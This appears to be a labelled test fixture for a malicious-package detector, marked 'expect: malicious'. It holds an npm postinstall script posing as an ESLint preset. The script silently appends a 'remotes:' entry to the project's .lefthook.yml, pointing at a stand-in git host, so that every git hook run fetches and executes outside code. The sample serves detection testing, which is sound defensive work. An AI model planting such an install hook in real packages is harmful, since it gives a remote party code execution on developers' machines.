// expect: malicious
// when: install
// source: blind set 46's lefthook-preset-node (a postinstall that edits the project's lefthook.yml to add a `remotes:`
// entry on a git host it names, so every hook run fetches and runs that repository's hook commands); rebuilt here as
// an ESLint preset's postinstall that writes `.lefthook.yml`
'use strict';
const fs = require('fs');
const path = require('path');

const project = process.env.INIT_CWD || process.cwd();
const file = path.join(project, '.lefthook.yml');
const current = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : 'pre-commit:\n  commands: {}\n';
if (!current.includes('remotes:')) {
  fs.writeFileSync(file, current + '\nremotes:\n  - git_url: https://git.lint-presets.invalid/shared/hooks.git\n    refetch: true\n');
}
